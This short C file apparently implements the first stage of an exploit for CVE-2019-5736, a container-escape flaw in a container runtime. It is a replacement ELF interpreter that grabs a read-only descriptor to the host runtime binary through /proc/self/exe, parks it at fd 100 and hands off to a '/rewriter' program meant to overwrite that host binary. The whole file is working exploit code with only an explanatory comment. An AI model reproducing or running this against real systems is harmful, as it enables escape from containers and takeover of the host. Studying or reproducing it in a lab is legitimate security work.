// CVE-2019-5736, step 1: the container's ELF interpreter, replaced by the attacker. A container
// that executes /proc/self/exe while it is berth (the init before its execve, an exec being set
// up) makes the kernel load berth's host binary with *this* as its interpreter. It keeps a
// read-only descriptor of the executable (fd 100, surviving execve) and runs the rewriter, so
// that the binary is no longer executed by this process.
#include "syscalls.h"

__attribute__((force_align_arg_pointer, noreturn)) void _start(void) {
  long fd = sys_open("/proc/self/exe", O_RDONLY, 0);
  if (fd < 0) {
    report("no-exe", -fd);
    sys_exit(1);
  }
  sys3(NR_dup3, fd, 100, 0);
  char* argv[] = {(char*)"/rewriter", 0};
  char* envp[] = {0};
  long e = sys3(NR_execve, (long)"/rewriter", (long)argv, (long)envp);
  report("no-rewriter", -e);
  sys_exit(1);
}
